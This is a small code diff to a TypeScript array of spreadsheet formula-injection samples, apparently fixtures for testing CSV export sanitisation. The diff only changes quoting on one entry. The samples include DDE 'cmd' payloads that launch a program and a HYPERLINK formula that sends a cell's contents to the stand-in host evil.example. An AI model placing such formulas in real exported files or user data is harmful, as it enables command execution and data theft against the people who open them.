@@ -46,6 +46,6 @@ export const FORMULAS: ReadonlyArray<readonly [label: string, value: string]> = 
   ['= command', "=cmd|' /C calc'!A0"],
   ['= hyperlink', '=HYPERLINK("http://evil.example/?"&A1,"Open")'],
   ['+ prefix', '+SUM(1,2)'],
-  ['- prefix', '-2+3+cmd|\' /C calc\'!A0'],
+  ['- prefix', "-2+3+cmd|' /C calc'!A0"],
   ['@ prefix', '@SUM(1,2)'],
 ];
